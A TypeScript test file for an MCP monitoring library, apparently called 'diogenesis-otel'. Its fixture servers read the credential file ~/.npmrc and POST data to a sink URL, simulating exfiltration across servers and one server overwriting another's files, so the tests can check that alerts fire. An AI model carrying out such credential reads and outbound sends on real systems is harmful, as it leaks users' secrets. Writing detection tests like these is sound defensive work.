import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { AgentApp, assertNothingLeaves, CANARY } from '../support/agent-app.ts';
import { agentFrameworks } from '../support/registry-packages.ts';

const frameworks = await agentFrameworks();
const skip = 'missing' in frameworks ? `skipped, because ${frameworks.missing}` : false;
const modules = 'modules' in frameworks ? frameworks.modules : '';

/* A server whose one tool does what is asked; it answers what it was told in `_meta`. */
const server = (name: string, tool: string, run: string) => `
import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';
import { StdioServerTransport } from '@modelcontextprotocol/sdk/server/stdio.js';
import { z } from 'zod';
import { readFileSync, writeFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { watchMcp } from 'diogenesis-otel';
const server = watchMcp(new McpServer({ name: '${name}', version: '1.0.0' }));
server.registerTool('${tool}', { description: '${tool}', inputSchema: { what: z.string() } }, async ({ what }, extra) => {
  ${run}
  return { content: [{ type: 'text', text: JSON.stringify([extra._meta ?? null]) + ' ${CANARY.result}' }] };
});
await server.connect(new StdioServerTransport());`;

const CLIENT = `
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { watchMcp, withTool } from 'diogenesis-otel';
const start = async (script, ...args) => {
  const client = watchMcp(new Client({ name: 'agent', version: '1.0.0' }));
  await client.connect(new StdioClientTransport({ command: process.execPath, args: [script, ...args],
    env: { SINK: process.env.SINK, HOME: process.env.HOME } }));
  return client;
};
const answers = [];
const call = (client, name, what, conversation) => withTool('step', async () => {
  answers.push(await client.callTool({ name, arguments: { what } }));
}, { agent: 'clerk', conversation });
`;
const END = 'for (const client of clients) await client.close();\nconsole.log(JSON.stringify(answers));';

interface Answer {
  readonly _meta?: unknown;
  readonly content: readonly { readonly text: string }[];
}

const told = (agent: AgentApp, rule: string) => agent.app.findings().filter((line) => line.rule.name === rule);

describe('a conversation over several MCP servers', { skip }, () => {
  const files = server('files', 'read', "readFileSync(homedir() + '/' + what);");
  const web = server('web', 'post', "await fetch(process.env.SINK, { method: 'POST', body: what }).catch(() => {});");
  const steps = (second: string) => `${CLIENT}
    const clients = [await start('files.mjs'), await start('web.mjs')];
    await call(clients[0], 'read', '.npmrc', 'c-1');
    await call(clients[1], 'post', '${CANARY.argument}', '${second}');
    ${END}`;

  it('goes on from one process to the next: a secret taken by one, something sent by the other', async () => {
    await using agent = await AgentApp.create(modules);
    agent.app.write('files.mjs', files);
    agent.app.write('web.mjs', web);
    const { stdout } = await agent.run(steps('c-1'));
    const [line] = told(agent, 'conversation_exfiltration');
    assert.ok(line, `among ${agent.app.findings().map(({ rule }) => rule.name)}`);
    assert.deepEqual([line.level, line.tool, line.agent, line.conversation], ['ALERT', 'post', 'web', 'c-1']);
    assert.match(line.reason, /a secret was taken \(fs\.read:<home>\/\.npmrc \[credential\]\)/);
    // Neither side of the application sees what travelled.
    for (const answer of JSON.parse(stdout) as Answer[]) {
      assert.deepEqual(Object.keys(answer), ['content']);
      assert.match(answer.content[0]?.text ?? '', /^\[null\]/);
    }
    assertNothingLeaves(agent);
  });

  it('says nothing of another conversation', async () => {
    await using agent = await AgentApp.create(modules);
    agent.app.write('files.mjs', files);
    agent.app.write('web.mjs', web);
    await agent.run(steps('c-2'));
    assert.deepEqual(told(agent, 'conversation_exfiltration'), []);
    const read = agent.app.findings().find(({ trait }) => trait.includes('.npmrc'));
    assert.deepEqual([read?.tool, read?.conversation], ['read', 'c-1'], 'each is told with its own');
  });
});

describe('a tool of one MCP server', { skip }, () => {
  const writer = server('writer', 'write', "writeFileSync(what, 'x');");
  const run = (what: string) => `${CLIENT}
    const clients = [await start('writer.mjs', 'own'), await start('memory.mjs', 'memory/facts.json')];
    await call(clients[0], 'write', ${JSON.stringify(what)}, 'c-1');
    ${END}`;

  for (const [what, title] of [
    ['memory/facts.json', 'its data, which it was given'],
    ['memory.mjs', 'its program'],
  ] as const) {
    it(`that changes what belongs to another one is told: ${title}`, async () => {
      await using agent = await AgentApp.create(modules);
      agent.app.write('writer.mjs', writer);
      agent.app.write('memory.mjs', server('memory', 'recall', ''));
      agent.app.write('memory/facts.json', '{}');
      agent.app.write('own/x', '');
      await agent.run(run(what));
      const [line] = told(agent, 'other_server_changed');
      assert.ok(line, `among ${agent.app.findings().map(({ rule }) => rule.name)}`);
      assert.deepEqual([line.level, line.tool, line.agent], ['WARN', 'write', 'writer']);
      assert.match(line.reason, /^tool:write changed a file of the MCP server memory \(fs\.write:/);
    });
  }

  it('may do so in the folders that it was given itself, and with what is nobody’s', async () => {
    await using agent = await AgentApp.create(modules);
    agent.app.write('writer.mjs', writer);
    agent.app.write('memory.mjs', server('memory', 'recall', ''));
    agent.app.write('memory/facts.json', '{}');
    agent.app.write('own/x', '');
    for (const what of ['own/notes.md', 'notes.md', 'memory/other.json']) {
      await agent.run(run(what));
      assert.deepEqual(told(agent, 'other_server_changed'), [], what);
    }
  });
});
